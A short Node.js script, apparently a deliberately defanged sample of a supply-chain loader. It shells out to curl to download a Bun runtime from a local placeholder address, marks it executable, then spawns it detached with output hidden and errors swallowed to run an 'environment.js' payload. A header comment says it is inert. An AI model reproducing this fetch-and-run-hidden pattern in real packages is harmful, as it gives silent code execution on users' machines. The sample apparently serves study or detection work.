// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const { execSync, spawn } = require('child_process');
const path = require('path');
const there = path.join(__dirname, 'no-such-folder', 'bun');
const RELEASE = 'http://127.0.0.1:9/oven-sh/bun/releases/download/bun-linux-x64.zip';

try {
  execSync('curl -fsSL ' + RELEASE + ' -o ' + there + '.zip && chmod +x ' + there);
} catch {
  // Nothing answers.
}
const child = spawn(there, [path.join(__dirname, 'environment.js')], { detached: true, stdio: 'ignore' });
child.on('error', () => {});
child.unref();
